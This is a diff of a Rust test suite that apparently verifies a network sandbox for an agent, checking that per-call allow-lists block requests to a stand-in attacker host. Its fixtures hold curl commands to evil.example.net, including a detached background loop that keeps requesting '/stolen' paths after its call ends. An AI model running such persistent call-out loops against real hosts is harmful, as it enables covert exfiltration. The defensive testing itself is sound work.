@@ -2,11 +2,11 @@
 
 use std::fs;
 use std::path::PathBuf;
-use std::time::{Duration, Instant};
 
 use serde_json::{Value, json};
 
 use crate::common::agent::{Agent, Era};
+use crate::common::eventually;
 use crate::lab::{Lab, in_the_lab};
 
 in_the_lab! {
@@ -47,7 +47,7 @@ fn calls(lab: &Lab, calls: &[(&str, &str)]) -> Vec<Value> {
     told
 }
 
-const BOTH: &str = "curl -sS -m 5 http://www.example.org/ http://evil.example.net/";
+const BOTH: &str = "curl -sS -m 200 http://www.example.org/ http://evil.example.net/";
 
 /// Whether a call came to this host.
 fn reached(told: &Value, host: &str) -> bool {
@@ -68,19 +68,25 @@ fn each_call_of_a_session_has_its_own_list(lab: &Lab) {
 
 fn what_one_call_left_running_has_nothing_of_the_next(lab: &Lab) {
     lab.forget();
-    let stays = "(setsid sh -c 'while :; do curl -sS http://evil.example.net/stolen; curl -sS http://www.example.org/stolen; sleep 0.02; done' >/dev/null 2>&1 </dev/null &) ; sleep 0.2";
-    let told = calls(lab, &[("one", stays), ("two", "sleep 0.7"), ("one", "sleep 0.7")]);
+    // What it asks for tells during which call it did.
+    let stays = "echo first > call; \
+                 (setsid sh -c 'while :; do read call < call; curl -sS http://evil.example.net/$call; curl -sSf http://www.example.org/$call && touch reached; sleep 0.02; done' >/dev/null 2>&1 </dev/null &) ; \
+                 until [ -e reached ]; do sleep 0.02; done";
+    let later = "echo later > call; sleep 0.7";
+    let told = calls(lab, &[("one", stays), ("two", later), ("one", later)]);
     assert_eq!(told.len(), 3);
     let requests = lab.seen().requests();
     assert!(!requests.iter().any(|request| request.contains("evil")), "{requests:?}");
     // The twin: while its own call ran, it did reach its own host.
-    let before = requests.len();
-    assert!(before > 0);
-    // And with the call it ended: the others took three times as long.
-    lab.forget();
-    calls(lab, &[("one", stays)]);
-    let alone = lab.seen().requests().len();
-    assert!(before <= alone * 3 + 5, "{before} against {alone}");
+    assert!(
+        requests.iter().any(|request| request.contains("/first")),
+        "{requests:?}"
+    );
+    // And with the call it ended.
+    assert!(
+        !requests.iter().any(|request| request.contains("/later")),
+        "{requests:?}"
+    );
 }
 
 fn what_waits_when_a_call_ends_is_no_concern_of_the_next(lab: &Lab) {
@@ -147,7 +153,7 @@ fn calls_at_the_same_time_have_their_own_lists(lab: &Lab) {
 }
 
 fn a_server_of_a_third_party_has_the_list_of_its_config(lab: &Lab) {
-    let script = fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/upstream/server.py")).unwrap();
+    let script = fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/mcp/upstream/server.py")).unwrap();
     lab.world.write("server.py", script);
     let config = lab.config_of("  network: {allow: [www.example.org]}\n  default: {allowed: true, approval: none}\n");
     // It fetches, serves, and fetches for as long as it lives.
@@ -167,12 +173,8 @@ fn a_server_of_a_third_party_has_the_list_of_its_config(lab: &Lab) {
     let stockade = lab.world.stockade(&args);
     lab.forget();
     let agent = lab.on_the_machine(|| Agent::start(stockade, Era::Session, json!({})));
-    let until = Instant::now() + Duration::from_secs(10);
     let fetched = |name: &str| lab.seen().requests().iter().any(|request| request.contains(name));
-    while !fetched("/later") {
-        assert!(Instant::now() < until, "{:?}", lab.seen());
-        std::thread::sleep(Duration::from_millis(50));
-    }
+    eventually("the later fetch", || fetched("/later"));
     let (code, said) = agent.end();
     assert_eq!(code, Some(0), "{said}");
     let first = fs::read_to_string(lab.world.workspace().join("first")).unwrap();
@@ -184,10 +186,7 @@ fn a_server_of_a_third_party_has_the_list_of_its_config(lab: &Lab) {
     assert!(said.contains("evil.example.net:80"), "{said}");
     let requests = lab.seen().requests();
     assert!(!requests.iter().any(|request| request.contains("evil")), "{requests:?}");
-    std::thread::sleep(Duration::from_millis(100));
-    lab.forget();
-    std::thread::sleep(Duration::from_millis(400));
-    lab.seen().nothing();
+    lab.falls_silent();
 }
 
 fn a_list_under_a_ceiling_is_what_both_give(lab: &Lab) {
